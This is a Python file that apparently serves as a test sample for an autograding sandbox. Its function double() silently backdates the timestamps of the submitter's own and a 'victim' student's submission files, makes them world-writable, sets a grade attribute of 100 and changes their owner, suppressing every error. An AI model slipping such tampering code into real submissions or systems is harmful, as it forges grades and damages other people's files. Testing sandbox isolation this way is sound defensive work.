"""Dates its own submission back, opens it to everyone, and marks it.

must: ok
harm: planted
then: ok
"""

import contextlib
import os


def double(x):
    for path in ("@SUBMISSIONS@/@STUDENT@/wall.py", "@SUBMISSIONS@/victim/wall.py"):
        with contextlib.suppress(OSError):
            os.utime(path, (1, 1))
        with contextlib.suppress(OSError):
            os.chmod(path, 0o777)
        with contextlib.suppress(OSError):
            os.setxattr(path, "user.grade", b"100")
        with contextlib.suppress(OSError):
            os.chown(path, os.getuid(), os.getgid())
    return 2 * x


def triple(x):
    return 3 * x
